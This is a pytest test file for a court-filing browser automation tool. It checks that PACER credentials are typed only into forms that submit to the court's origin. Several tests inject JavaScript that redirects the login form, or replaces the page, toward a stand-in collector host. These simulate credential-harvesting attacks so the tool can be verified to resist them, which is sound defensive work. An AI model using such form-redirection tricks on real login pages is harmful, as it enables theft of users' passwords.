"""A password is only typed on the court's origin, into a form that submits to it."""

import re
from contextlib import suppress

import pytest

from config.account import Account
from ecfcheck.browser.window import Window
from ecfcheck.courts.court_session import CourtSession
from pages.controls import PageControl
from pages.current_action import CurrentAction
from pages.errors import MissingControlError, NotUsableError, UnsafeFormError, WrongOriginError
from stage.faults.model import Fault
from tests.helpers.faulty_stage import PACER_LOGIN_SENT, FaultyStage

ELSEWHERE = "http://collector.localhost:9/take"
FORM = "const form = document.getElementById('loginForm');"


@pytest.fixture
def window(login_window: Window) -> Window:
    return login_window


def log_in(window: Window, account: Account) -> None:
    """Log in as a flow does; CM/ECF appears if the credential was sent to PACER."""
    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
    assert window.act("pacer_login", "log_in", typed)


def read_fields(window: Window) -> list[str]:
    script = "[...document.querySelectorAll('#loginForm input:not([type=hidden])')].map(input => input.value)"
    return list(window.page.evaluate(script))


@pytest.mark.parametrize(
    "change",
    [
        f"form.setAttribute('action', '{ELSEWHERE}')",
        f"form.querySelector('button').setAttribute('formaction', '{ELSEWHERE}')",
        f"form.setAttribute('action', '{ELSEWHERE}'); form.innerHTML += '<input type=hidden name=action>'",
        f"form.setAttribute('action', 'take'); document.head.innerHTML += '<base href=\"{ELSEWHERE}\">'",
        "form.setAttribute('action', 'https://pacer.localhost/csologin/login.jsf')",
        f"form.setAttribute('action', '{ELSEWHERE}'); form.style.opacity = 0",
    ],
    ids=["action", "formaction", "hidden action", "base", "another port", "transparent"],
)
def test_nothing_is_typed_into_a_form_that_submits_to_another_origin(
    change: str, window: Window, account: Account
) -> None:
    window.page.evaluate(f"() => {{ {FORM} {change} }}")
    with pytest.raises(WrongOriginError, match="a form on the page submits to http"):
        log_in(window, account)
    assert set(read_fields(window)) == {""}


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ("form.method = 'get'", "sends it in the address of a request (method GET)"),
        ("form.enctype = 'text/plain'", "sends it as text/plain, which is not how a court reads a form"),
        (
            "form.querySelector('button').setAttribute('formmethod', 'get')",
            "sends it in the address of a request (method GET)",
        ),
    ],
)
def test_not_even_the_user_name_is_typed_if_the_password_would_be_sent_in_another_way(
    change: str, fault: str, window: Window, account: Account
) -> None:
    window.page.evaluate(f"() => {{ {FORM} {change} }}")
    with pytest.raises(UnsafeFormError) as error:
        log_in(window, account)
    assert str(error.value) == f"pacer_login log_in: nothing was typed; the form with the password {fault}"
    assert set(read_fields(window)) == {""}


POINT_ELSEWHERE = f"""() => document.getElementById('loginForm:loginName').addEventListener('input', () => {{
    document.getElementById('loginForm').setAttribute('action', '{ELSEWHERE}');
}})"""


def test_the_password_is_not_typed_if_the_page_changes_its_form_while_the_user_name_is(
    window: Window, account: Account
) -> None:
    window.page.evaluate(POINT_ELSEWHERE)
    with pytest.raises(WrongOriginError) as error:
        log_in(window, account)
    assert 'pacer_login log_in, field "Password *": nothing was typed; ' in str(error.value)
    assert str(error.value).endswith(f"but a form on the page submits to {ELSEWHERE}")
    assert read_fields(window)[1] == ""


IMITATION = """<form id=loginForm><input id="loginForm:loginName">
<input type=password id="loginForm:password"><button>Login</button></form>"""
NAVIGATE_AWAY = f"""delay => document.getElementById('loginForm:loginName').addEventListener('input', () => {{
    document.getElementById('loginForm:password').disabled = true;
    if (delay) setTimeout(() => location.assign('{ELSEWHERE}'), delay);
    else location.assign('{ELSEWHERE}');
}})"""


@pytest.mark.parametrize("delay", [0, 100], ids=["at once", "while a field is awaited"])
def test_nothing_is_typed_into_a_page_that_replaces_the_login_while_it_is_filled_in(
    delay: int, window: Window, account: Account
) -> None:
    window.page.route(ELSEWHERE, lambda route: route.fulfill(body=IMITATION, content_type="text/html"))
    window.page.evaluate(NAVIGATE_AWAY, delay)
    # The error names the origin, unless the document is replaced in the middle of a look at it.
    with pytest.raises((WrongOriginError, NotUsableError)):
        log_in(window, account)
    window.page.wait_for_url(ELSEWHERE)
    assert read_fields(window) == ["", ""]


@pytest.mark.parametrize(
    "change",
    [
        "form.setAttribute('action', '/csologin/login.jsf')",
        "form.setAttribute('action', 'javascript:void(0)')",
        f"document.body.innerHTML += '<form action=\"{ELSEWHERE}\"><button>Search</button></form>'",
        f"document.body.innerHTML += '<form action=\"{ELSEWHERE}\" hidden><input></form>'",
    ],
    ids=["own", "script", "nothing to type in", "hidden"],
)
def test_a_form_that_submits_to_the_court_is_filled_in(change: str, window: Window, account: Account) -> None:
    window.page.evaluate(f"() => {{ {FORM} {change} }}")
    log_in(window, account)
    assert window.wait_for_screen("cmecf_home", 10, previous_screen="pacer_login").is_expected


def test_nothing_is_typed_after_a_script_has_left_the_court(
    window: Window, account: Account, court: CourtSession
) -> None:
    elsewhere = f"{court.court.website}/"
    window.page.evaluate("there => { setTimeout(() => location.assign(there), 50); }", elsewhere)
    window.page.wait_for_url(elsewhere)
    with pytest.raises(WrongOriginError) as error:
        log_in(window, account)
    assert str(error.value) == (
        f"pacer_login log_in: nothing was typed; the court's file says {court.court.pacer_login},"
        f" but the window is now at {elsewhere}"
    )


def test_a_field_located_by_a_locator_alone_is_not_filled_in_off_the_court(
    window: Window, account: Account
) -> None:
    page_object = window.page_objects["pacer_login"]
    field = PageControl(window.page.locator("input"), "field")
    window.page.set_content(f"<form action='{ELSEWHERE}'><input></form>")
    with pytest.raises(WrongOriginError, match="a form on the page submits to http"):
        page_object.fill(field, account.pacer.password)
    assert window.page.locator("input").input_value() == ""


LOSE = (
    f"""() => {{ {FORM} form.addEventListener('change', () => {{ form.outerHTML = form.outerHTML; }}); }}"""
)
"""The page makes its form anew when the user name was typed, as one does that has its server check it."""


def test_a_credential_is_not_sent_if_its_user_name_was_lost_again(window: Window, account: Account) -> None:
    window.page.evaluate(
        f"""() => {{ {FORM} const password = form.querySelector('[type=password]');
        password.oninput = () => {{ form.querySelector('[type=text]').value = ''; }}; }}"""
    )
    with pytest.raises(MissingControlError, match=r'"Username \*" no longer has what was typed into it'):
        log_in(window, account)
    assert window.look().screens == ("pacer_login",)


def test_a_form_that_is_made_anew_while_it_is_filled_in_is_filled_in_again(
    window: Window, account: Account
) -> None:
    window.page.evaluate(LOSE)
    log_in(window, account)
    assert window.wait_for_screen("cmecf_home", 10, previous_screen="pacer_login").is_expected


@pytest.fixture
def impatient_window(window: Window) -> Window:
    """A window that gives an action a second, and its answer two."""
    for page_object in window.page_objects.values():
        limits = page_object.court.limits.model_copy(update={"act": 1, "arrive": 2})
        page_object.court = page_object.court.model_copy(update={"limits": limits})
    return window


@pytest.mark.parametrize("begin", ["setTimeout(wait)", "form.oninput = wait"], ids=["before", "in between"])
def test_a_script_of_the_page_that_never_ends_does_not_keep_the_run_from_ending(
    begin: str, impatient_window: Window, account: Account
) -> None:
    impatient_window.page.evaluate(f"() => {{ {FORM} const wait = () => {{ for (;;) ; }}; {begin}; }}")
    with pytest.raises(NotUsableError, match="the browser did not answer within 1 s"):
        log_in(impatient_window, account)


def test_a_form_that_the_page_sends_by_itself_is_not_sent_a_second_time(
    impatient_window: Window, account: Account, stage: FaultyStage
) -> None:
    stage.fail(Fault(on=PACER_LOGIN_SENT, event="sent"), Fault(on=PACER_LOGIN_SENT, hold=True))
    page = impatient_window.page
    submit = "HTMLFormElement.prototype.submit.call(form)"
    page.evaluate(f"() => {{ {FORM} form.querySelector('[type=password]').oninput = () => {submit}; }}")
    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
    at_once = CurrentAction(only_reads=True, leads_on=True)
    # That the page is leaving is known, or it does not answer a look at the button any more, or is clicked.
    with page.expect_request(re.compile(r"/login\.jsf")), suppress(MissingControlError, NotUsableError):
        impatient_window.act("pacer_login", "log_in", typed, at_once)
    assert stage.count("sent") <= 1
